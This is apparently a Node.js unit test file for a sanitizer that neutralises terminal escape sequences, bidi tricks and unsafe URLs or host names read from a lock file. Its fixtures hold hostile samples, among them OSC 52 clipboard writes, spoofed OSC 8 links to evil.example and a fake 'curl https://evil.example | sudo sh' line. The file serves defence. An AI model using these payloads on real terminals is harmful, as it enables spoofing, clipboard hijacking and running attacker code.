// Unit tests of lib/sanitize.js: what may reach a terminal from a lock file.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { createRequire } from 'node:module'

const require = createRequire(import.meta.url)
const { FIELD_LIMIT, safeText, safeUrl, safeHostname } = require('../lib/sanitize.js')
const { holderLines, formatRows } = require('../lib/holder.js')

/** No character a terminal acts on, or that reorders or hides text, is left. */
function assertInert(s) {
  assert.doesNotMatch(s, /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u, JSON.stringify(s))
}

test('controls, DEL, C1, bidi and line separators are escaped, visibly', () => {
  const attacks = {
    osc52: '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07',
    osc8: '\x1b]8;;https://evil.example/\x1b\\http://localhost:5173/\x1b]8;;\x1b\\',
    fakeRow: 'x\r\x1b[2Kfix it with: curl https://evil.example | sudo sh\nnext',
    hidden: '\x1b[8mhidden',
    c1: '\u009b2K\u009d52;c;x\u009c',
    del: 'a\x7fb',
    bidi: 'abc\u202egnp.exe\u2066\u2069\u200e\u061c',
    separators: 'a\u2028b\u2029c',
    lone: 'a\ud800b\udc00c',
    nul: 'a\0b',
  }
  for (const [name, s] of Object.entries(attacks)) {
    const out = safeText(s)
    assertInert(out)
    assert.ok(out.length > 0, name)
  }
  assert.equal(safeText('a\x1b[2Kb'), 'a\\x1b[2Kb')
  assert.equal(safeText('line\nbreak\r'), 'line\\x0abreak\\x0d')
  assert.equal(safeText('\u202e'), '\\u202e')
  assert.equal(safeText('\u2028'), '\\u2028')
  assert.equal(safeText('\x9b'), '\\x9b')
})

test('ordinary text, including non-ASCII and astral characters, passes unchanged', () => {
  for (const s of ['/home/ana/projects/my app', 'vite --port 3000', 'ünïcødé ✓ 日本', 'emoji 😀 ok', 'C:\\Users\\x']) {
    assert.equal(safeText(s), s)
  }
  assert.equal(safeText(1234), '1234')
})

test('each field is capped, counting escapes at their printed width', () => {
  const long = safeText('x'.repeat(10_000))
  assert.equal([...long].length, FIELD_LIMIT + 1)
  assert.ok(long.endsWith('…'))
  const escapes = safeText('\x1b'.repeat(10_000))
  assert.ok([...escapes].length <= FIELD_LIMIT + 1)
  assert.ok(escapes.endsWith('…'))
  assert.ok(!/\\x?$/.test(escapes.slice(0, -1)), 'an escape is never cut in half')
  assert.equal(safeText('x'.repeat(FIELD_LIMIT)), 'x'.repeat(FIELD_LIMIT))
  assert.equal(safeText('abcdef', 3), 'abc…')
})

test('a URL is shown only when it is plain http(s)', () => {
  assert.equal(safeUrl('http://localhost:5173/'), 'http://localhost:5173/')
  assert.equal(safeUrl('https://[::1]:8443/app'), 'https://[::1]:8443/app')
  for (const bad of ['javascript:alert(1)', 'file:///etc/passwd', 'not a url', '', 'http://localhost:5173@evil.example/', 'http://u:p@host/', 42, null, `http://h/${'a'.repeat(3000)}`]) {
    assert.equal(safeUrl(bad), null, String(bad))
  }
  const controls = safeUrl('http://localhost:5173/\x1b]52;c;AAAA\x07\n')
  assert.ok(controls === null || !/[\x00-\x1f]/.test(controls), controls)
})

test('a host name is shown only with host name syntax', () => {
  for (const ok of ['build-7', 'ci.example.com', 'host_1.local', 'x.']) assert.equal(safeHostname(ok), ok)
  for (const bad of ['', '-lead', 'trail-', 'a..b', 'a b', 'h\x1b[2K', 'h\nfake', 'x'.repeat(64), 'ho\u202est', 7]) {
    assert.equal(safeHostname(bad), null, JSON.stringify(bad))
  }
})

test('holder lines built from a hostile holder are inert, one row per field', () => {
  const holder = {
    valid: true,
    pid: 4242,
    hostname: 'evil\x1b]52;c;AAAA\x07host',
    alive: 'unknown',
    startedAt: new Date(),
    metadata: {
      url: '\x1b]8;;https://evil.example/\x1b\\http://localhost:5173/\x1b]8;;\x1b\\',
      root: '/srv/app\r\x1b[2Kfix it with: curl https://evil.example | sudo sh',
      commandLine: `vite ${'\u202e'.repeat(500)}`,
    },
  }
  const text = formatRows(holderLines(holder, '/tmp/a.lock', null))
  assertInert(text.replaceAll('\n', ''))
  for (const line of text.split('\n')) assert.match(line, /^ {2}[a-z ]+: /, line)
  assert.doesNotMatch(text, /evil\.example\/\x1b|https:\/\/evil\.example\/\\x1b\\\\http/)
  assert.match(text, /url: +\(not shown/)
})
